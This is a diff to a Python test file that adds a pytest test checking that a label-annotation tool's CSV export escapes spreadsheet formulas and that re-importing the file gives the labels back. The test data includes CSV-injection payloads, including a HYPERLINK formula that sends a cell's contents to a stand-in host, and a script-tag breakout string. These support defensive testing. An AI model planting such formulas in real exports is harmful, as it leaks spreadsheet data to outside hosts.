@@ -15,6 +15,7 @@ from distspec.explorer.session import open_annotation_session
 from distspec.io.files import list_files
 from distspec.io.paths import store_url
 from distspec.labels.annotations import Annotation, add_annotations, annotations_url, read_annotations
+from distspec.labels.importing import read_labels
 from distspec.store.store import open_store
 from tests.explorer.conftest import EVIL
 
@@ -175,6 +176,33 @@ def test_labels_of_number_keys_are_saved(client, root):
     assert client.put("/api/labels", json={"names": [str(i) for i in range(10)]}).status_code == 400
     assert client.put("/api/labels", json={"names": ["ordinary"]}).status_code == 400
     assert len(read_annotations(root)) == 1, "label names are no annotations"
+
+
+def test_an_export_escapes_formulas_and_its_import_gives_the_labels_back(client, row, tmp_path):
+    labels = {
+        5: '=HYPERLINK("http://x.example/?"&A2,"open")',
+        6: "+1",
+        7: "@a",
+        8: "'=a",
+        9: "</script>",
+        10: "a,b",
+    }
+    for i, label in labels.items():
+        assert client.post("/api/labels", json={"rows": [row[i]], "label": label}).status_code == 200
+    for i in (5, 11):
+        client.post("/api/labels", json={"rows": [row[i]], "label": "interesting"})
+    rows = [row[i] for i in (*labels, 11)]
+    content = client.post("/api/export", json={"rows": rows}).content
+    table = pa.csv.read_csv(io.BytesIO(content))
+    assert [text[:2] for text in table["human_label"].to_pylist()[:4]] == ["'=", "'+", "'@", "''"]
+    path = tmp_path / "export.csv"
+    path.write_bytes(content)
+    read = read_labels(str(path), table["object_id"].combine_chunks(), "ann")
+    assert {(a.object_id, a.human_label) for a in read.annotations} == {
+        *((f"o{i:04d}", label) for i, label in labels.items()),
+        *((f"o{i:04d}", "interesting") for i in (5, 11)),
+    }
+    assert read.unknown_ids == []
 
 
 def test_export_contains_the_selected_rows(client, objects, row):
